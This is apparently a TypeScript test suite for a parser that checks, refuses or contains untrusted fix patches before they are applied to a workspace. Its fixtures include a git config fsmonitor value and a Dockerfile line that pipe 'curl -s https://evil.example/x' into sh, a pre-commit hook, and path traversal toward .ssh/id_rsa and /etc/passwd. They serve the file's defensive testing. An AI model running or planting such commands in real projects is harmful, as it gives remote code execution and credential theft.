// A fix's patch: parsed with jsdiff, paths checked like every server path and by the write
// policy, applied all or nothing; the sandbox's patches for the sample workspace apply, its
// stale one does not; every kind of patch a hostile service could send to act beyond what it
// shows is refused as a whole, with a reason that names the problem.
import { strict as assert } from 'node:assert';
import { readFileSync } from 'node:fs';
import * as path from 'node:path';
import { applyTo, parseFixPatch, patchText, type FilePatch } from '../../../src/model/patch';
import { createDataset } from '../../../tools/sandbox/generator';

const WORKSPACE = path.join(__dirname, '..', '..', '..', '..', 'test', 'fixtures', 'workspace');

describe('fix patches', () => {
  it("apply the sandbox's patches to the sample workspace, and refuse its stale one", () => {
    const d = createDataset({ seed: 42 });
    const report = d.reports.find((r) => r.repo?.originalUrl === 'https://github.com/acme/payments-api')!;
    let applied = 0;
    for (const fix of d.detail(report.id)!.fixes) {
      const parsed = parseFixPatch(fix.patchAndQuestions?.patch);
      if (!parsed.ok) continue;
      for (const file of parsed.files) {
        const text = readFileSync(path.join(WORKSPACE, file.path), 'utf8');
        const result = applyTo(file, text);
        if (fix.id === d.conflictingFixId) assert.equal(result, undefined, 'the stale patch does not apply');
        else {
          assert.equal(typeof result, 'string', `${fix.id} applies to ${file.path}`);
          applied++;
        }
      }
    }
    assert.ok(applied > 5, `${applied} patches applied`);
  });

  it('refuse patches that name unsafe paths, rename, touch a file twice, or are not patches', () => {
    const patch = (oldName: string, newName: string) => `--- ${oldName}\n+++ ${newName}\n@@ -1 +1 @@\n-a\n+b\n`;
    assert.match((parseFixPatch(patch('a/../../.ssh/id_rsa', 'b/../../.ssh/id_rsa')) as { reason: string }).reason, /refused/);
    assert.match((parseFixPatch(patch('/etc/passwd', '/etc/passwd')) as { reason: string }).reason, /refused/);
    assert.match((parseFixPatch(patch('a/x.py', 'b/y.py')) as { reason: string }).reason, /renames/);
    assert.match((parseFixPatch(patch('a/x.py', 'b/x.py') + patch('a/x.py', 'b/x.py')) as { reason: string }).reason, /twice/);
    assert.deepEqual(parseFixPatch(null), { ok: false, reason: 'the fix has no patch' });
    assert.equal(parseFixPatch('not a diff').ok, false);
    const ok = parseFixPatch(patch('a/src/x.py', 'b/src/x.py'));
    assert.ok(ok.ok && ok.files[0]!.path === 'src/x.py');
    assert.equal(applyTo(ok.ok ? ok.files[0]! : (undefined as never), 'a\n'), 'b\n');
    assert.equal(applyTo(ok.ok ? ok.files[0]! : (undefined as never), 'c\n'), undefined, 'a context that differs does not apply');
  });

  it('know created and deleted files', () => {
    const created = parseFixPatch('--- /dev/null\n+++ b/src/new.py\n@@ -0,0 +1 @@\n+x\n');
    assert.ok(created.ok && created.files[0]!.action === 'create' && created.files[0]!.path === 'src/new.py');
    assert.equal(created.ok && applyTo(created.files[0]!, ''), 'x\n');
    const deleted = parseFixPatch('--- a/src/old.py\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n');
    assert.ok(deleted.ok && deleted.files[0]!.action === 'delete' && deleted.files[0]!.path === 'src/old.py');
  });
});

/** The reason a patch is refused for; fails when it is accepted. */
function refused(patch: string): string {
  const parsed = parseFixPatch(patch);
  assert.ok(!parsed.ok, `refused: ${patch}`);
  return parsed.reason;
}

function accepted(patch: string): FilePatch[] {
  const parsed = parseFixPatch(patch);
  assert.ok(parsed.ok, parsed.ok ? '' : parsed.reason);
  return parsed.files;
}

const section = (oldName: string, newName: string, hunk: string, header = '') => `${header}--- ${oldName}\n+++ ${newName}\n${hunk}`;
const modify = (path: string) => section(`a/${path}`, `b/${path}`, '@@ -1,2 +1,2 @@\n-a\n+b\n c\n');
const create = (path: string, lines = ['x']) =>
  section('/dev/null', `b/${path}`, `@@ -0,0 +1,${lines.length} @@\n${lines.map((l) => `+${l}`).join('\n')}\n`);
const git = (path: string, extended = '') => `diff --git a/${path} b/${path}\n${extended}`;
const FSMONITOR = '@@ -0,0 +1,2 @@\n+[core]\n+\tfsmonitor = "curl -s https://evil.example/x | sh"\n';

describe('fix patches: the trust boundary', () => {
  it("refuse git's own folder under every name, and Windows device names", () => {
    assert.match(refused(section('a/.git/config', 'b/.git/config', FSMONITOR)), /\.git\/config is in git's own folder/);
    assert.match(
      refused(
        git('.git/hooks/pre-commit', 'new file mode 100755\nindex 0000000..1111111\n') +
          create('.git/hooks/pre-commit', ['#!/bin/sh', 'id']),
      ),
      /git's own folder/,
    );
    assert.match(refused(section('a/.GIT/config', 'b/.GIT/config', FSMONITOR)), /\.GIT\/config is in git's own folder/);
    assert.match(refused(create('.git./hooks/post-checkout')), /git's own folder/);
    assert.match(refused(create('GIT~1/config')), /short \(8\.3\) name/);
    assert.match(refused(create('app/.git/hooks/pre-commit')), /git's own folder/);
    assert.match(refused(create('app/nul.txt')), /reserved Windows device name \(NUL\)/);
    assert.match(refused(modify('CON')), /reserved Windows device name \(CON\)/);
  });

  it('let a file that runs code through, marked sensitive with why', () => {
    const [db, tasks] = accepted(modify('app/db.py') + create('.vscode/tasks.json', ['{"version": "2.0.0"}']));
    assert.equal(db!.sensitive, undefined);
    assert.equal(tasks!.path, '.vscode/tasks.json');
    assert.match(tasks!.sensitive ?? '', /folder open/);
  });

  it('delete a file only when the hunk removes all of it; refuse an empty hunk', () => {
    const [one] = accepted(section('a/app/db.py', '/dev/null', '@@ -1 +0,0 @@\n-import os\n'));
    assert.equal(one!.action, 'delete');
    const whole = 'import os\nimport sys\n';
    assert.equal(applyTo(one!, whole), undefined, 'a hunk removing one line of two does not delete the file');
    const why = patchText(one!, whole);
    assert.ok(!why.ok && /does not remove the file's whole current content/.test(why.reason), JSON.stringify(why));
    assert.equal(applyTo(one!, 'import os\n'), '', 'the same hunk deletes a file of that one line');
    assert.equal(applyTo(one!, 'import os'), undefined, 'a final line end the hunk does not show');
    assert.match(refused(section('a/app/db.py', '/dev/null', '@@ -0,0 +0,0 @@\n')), /a hunk of app\/db\.py changes nothing/);
    assert.match(refused(modify('a.py').replace('-a\n+b\n c\n', ' a\n c\n')), /changes nothing/);
    assert.match(refused(section('a/x.py', '/dev/null', '@@ -2,1 +1,0 @@\n-x\n')), /deletes x\.py with a hunk that keeps or adds lines/);
  });

  it('refuse the whole patch for a binary, mode-only, rename or copy section beside a good one', () => {
    const good = git('app/db.py') + modify('app/db.py');
    const binary = `${good}${git('web/logo.png', 'index 1111111..2222222 100644\nBinary files a/web/logo.png and b/web/logo.png differ\n')}`;
    assert.match(refused(binary), /changes web\/logo\.png as binary data/);
    assert.match(
      refused(`${good}${git('web/logo.png', 'index 1111111..2222222 100644\nGIT binary patch\nliteral 5\nMcmZ?wbhEGg0\n\n')}`),
      /binary/,
    );
    assert.match(refused(`${modify('app/db.py')}Binary files a/logo.png and b/logo.png differ\n`), /binary data/);
    assert.match(refused(`${good}${git('cmd/main.go', 'old mode 100644\nnew mode 100755\n')}`), /changes the mode of cmd\/main\.go/);
    assert.match(refused(`${good}${git('cmd/main.go', 'index 1111111..2222222 100644\n')}`), /cmd\/main\.go changes no line/);
    assert.match(
      refused(
        `diff --git a/app/db.py b/app/orders.py\nsimilarity index 90%\nrename from app/db.py\nrename to app/orders.py\n${modify('app/db.py')}`,
      ),
      /renames or copies/,
    );
    assert.match(
      refused(`${git('app/db.py', 'similarity index 90%\nrename from app/db.py\nrename to app/db.py\n')}${modify('app/db.py')}`),
      /renames app\/db\.py/,
    );
    assert.match(refused(`${git('app/db.py', 'copy from app/db.py\ncopy to app/db.py\n')}${modify('app/db.py')}`), /copies app\/db\.py/);
    assert.match(refused(`${git('app/db.py', 'x-custom: 1\n')}${modify('app/db.py')}`), /not understood/);
  });

  it('refuse links, submodules and odd modes; accept an executable new file', () => {
    assert.match(refused(git('app/link', 'new file mode 120000\n') + create('app/link', ['/etc/passwd'])), /symbolic link \(mode 120000\)/);
    assert.match(
      refused(
        git('vendor/lib', 'index 1111111..2222222 160000\n') +
          section('a/vendor/lib', 'b/vendor/lib', '@@ -1 +1 @@\n-Subproject commit 1\n+Subproject commit 2\n'),
      ),
      /submodule/,
    );
    assert.match(refused(git('x.sh', 'new file mode 100666\n') + create('x.sh')), /mode 100666/);
    assert.match(
      refused(git('x.sh', 'deleted file mode 120000\n') + section('a/x.sh', '/dev/null', '@@ -1 +0,0 @@\n-x\n')),
      /symbolic link/,
    );
    const [script] = accepted(git('run.sh', 'new file mode 100755\nindex 0000000..1111111\n') + create('run.sh', ['#!/bin/sh']));
    assert.equal(script!.action, 'create');
  });

  it('refuse a git header that names another file than the ---/+++ lines, or other names on the two sides', () => {
    assert.match(
      refused(git('README.md') + modify('app/db.py')),
      /"diff --git" line of README\.md disagrees with its "---"\/"\+\+\+" lines/,
    );
    assert.match(refused(git('new.py') + create('new.py')), /disagrees/, 'a /dev/null side needs git\'s "new file mode"');
    assert.match(refused(git('old.py', 'deleted file mode 100644\n') + modify('old.py')), /disagrees/);
    assert.match(refused(section('a/x.py', 'b/y.py', '@@ -1 +1 @@\n-a\n+b\n')), /renames x\.py to y\.py/);
    assert.match(refused(section('/dev/null', '/dev/null', '@@ -0,0 +1 @@\n+x\n')), /\/dev\/null on both sides/);
  });

  it('refuse two names of one file on Windows or macOS', () => {
    assert.match(refused(modify('app/X.py') + create('app/x.py')), /both app\/X\.py and app\/x\.py.*one file/);
    const composed = 'caf\u00e9.py';
    const decomposed = 'cafe\u0301.py';
    assert.match(refused(create(composed) + create(decomposed)), /Unicode form/);
    assert.match(refused(create('lib') + create('LIB/x.py')), /one file or folder/);
  });

  it("read git's quoted names, then check them like any name", () => {
    const quoted =
      'diff --git "a/caf\\303\\251.py" "b/caf\\303\\251.py"\n--- "a/caf\\303\\251.py"\n+++ "b/caf\\303\\251.py"\n@@ -1 +1 @@\n-a\n+b\n';
    const [file] = accepted(quoted);
    assert.equal(file!.path, 'caf\u00e9.py');
    assert.match(refused(quoted.replaceAll('\\303\\251', '\\t')), /refused \(unsafe character/);
    assert.match(refused(quoted.replaceAll('\\303\\251', '\\377')), /cannot be read/);
  });

  it('refuse another format, a stray header, wrong counts and a hunk before its file header', () => {
    assert.match(
      refused(`Index: app/db.py\n===================================================================\n${modify('app/db.py')}`),
      /another diff format.*Index: app\/db\.py/,
    );
    assert.match(refused(`*** app/db.py\n--- app/db.py\n***************\n`), /another diff format/);
    assert.match(refused(`${modify('app/db.py')}--- a/orphan\n`), /out of place/);
    assert.match(refused(section('a/x.py', 'b/x.py', '@@ -1,3 +1,3 @@\n-a\n+b\n c\n')), /other line counts than its header/);
    assert.match(refused(`${git('x.py')}@@ -1 +1 @@\n-a\n+b\n`), /hunk but no "---" and "\+\+\+" lines/);
    assert.match(refused('@@ -1 +1 @@\n-a\n+b\n'), /out of place/);
    assert.match(refused('just some text\n'), /not a unified diff/);
    assert.match(
      refused(section('a/x.py', 'b/x.py', '@@ -1,2 +1,2 @@\n-a\n+b\n c\n d\n')),
      /cannot be read \(Hunk at line 3 has more lines than expected/,
    );
  });

  it('show the names and lines of a refused patch with unsafe characters escaped', () => {
    const reason = refused('diff --git a/x\u202e.py b/y\u202e.py\n--- a/x.py\n+++ b/y.py\n@@ -1 +1 @@\n-a\n+b\n');
    assert.ok(!reason.includes('\u202e') && reason.includes('\\u202e'), reason);
    const line = refused(`Index: \u001b[31mred\n${modify('x.py')}`);
    assert.ok(!line.includes('\u001b') && line.includes('\\u001b'), line);
  });

  it('insert with no context only into an empty file; create only where nothing is', () => {
    const [config] = accepted(section('a/Dockerfile', 'b/Dockerfile', '@@ -0,0 +1 @@\n+RUN curl -s https://evil.example/x | sh\n'));
    const why = patchText(config!, 'FROM python:3.12\n');
    assert.ok(!why.ok && /without any line of context/.test(why.reason), JSON.stringify(why));
    assert.deepEqual(patchText(config!, ''), { ok: true, text: 'RUN curl -s https://evil.example/x | sh\n' });
    const [appended] = accepted(section('a/x.py', 'b/x.py', '@@ -3,0 +4 @@\n+z\n'));
    assert.equal(applyTo(appended!, 'a\nb\nc\n'), undefined, 'a -U0 insertion has no context either');
    const [created] = accepted(create('new.py'));
    assert.deepEqual(patchText(created!, 'already\n'), { ok: false, reason: 'the patch creates new.py, which already exists' });
    assert.match(
      refused(section('/dev/null', 'b/new.py', '@@ -1,0 +1 @@\n+x\n')),
      /creates new\.py with a hunk that expects existing lines/,
    );
    assert.match(refused(create('a.py') + create('a.py')), /changes a\.py twice/);
  });

  it('read a removed "-- " line and an added "++ " line as hunk lines, not as file headers', () => {
    const [file] = accepted(section('a/q.sql', 'b/q.sql', '@@ -1,2 +1,2 @@\n--- old note\n+++ new note\n SELECT 1;\n'));
    assert.equal(applyTo(file!, '-- old note\nSELECT 1;\n'), '++ new note\nSELECT 1;\n');
  });

  it('accept real-world patches: git with index lines, plain ---/+++, new files, whole deletions, several files', () => {
    const gitStyle = accepted(
      'diff --git a/app/db.py b/app/db.py\nindex 3b18e51..a2f9c0d 100644\n--- a/app/db.py\n+++ b/app/db.py\n@@ -1,2 +1,2 @@\n-a\n+b\n c\n' +
        'diff --git a/app/new.py b/app/new.py\nnew file mode 100644\nindex 0000000..e69de29\n--- /dev/null\n+++ b/app/new.py\n@@ -0,0 +1,2 @@\n+x\n+y\n' +
        'diff --git a/app/old.py b/app/old.py\ndeleted file mode 100644\nindex e69de29..0000000\n--- a/app/old.py\n+++ /dev/null\n@@ -1,2 +0,0 @@\n-p\n-q\n\\ No newline at end of file\n',
    );
    assert.deepEqual(
      gitStyle.map((f) => [f.path, f.action, f.hunks]),
      [
        ['app/db.py', 'modify', 1],
        ['app/new.py', 'create', 1],
        ['app/old.py', 'delete', 1],
      ],
    );
    assert.equal(applyTo(gitStyle[0]!, 'a\nc\n'), 'b\nc\n');
    assert.equal(applyTo(gitStyle[1]!, ''), 'x\ny\n');
    assert.equal(applyTo(gitStyle[2]!, 'p\nq'), '', 'the whole file, its missing final line end included');
    assert.equal(applyTo(gitStyle[2]!, 'p\nq\n'), undefined, 'a final line end the hunk says is not there');
    const plain = accepted(
      '--- src/x.py\t2024-05-01 10:00:00.000000000 +0200\n+++ src/x.py\t2024-05-02 10:00:00.000000000 +0200\n@@ -1 +1 @@\n-a\n+b\n',
    );
    assert.equal(plain[0]!.path, 'src/x.py');
    const crlf = accepted(
      'From: someone\nSubject: [PATCH] fix\n\n---\n' + section('a/w.txt', '/dev/null', '@@ -1,2 +0,0 @@\r\n-one\r\n-two\r\n'),
    );
    assert.equal(applyTo(crlf[0]!, 'one\r\ntwo\r\n'), '', 'a CRLF file deleted by a CRLF patch, after a mail header');
  });
});
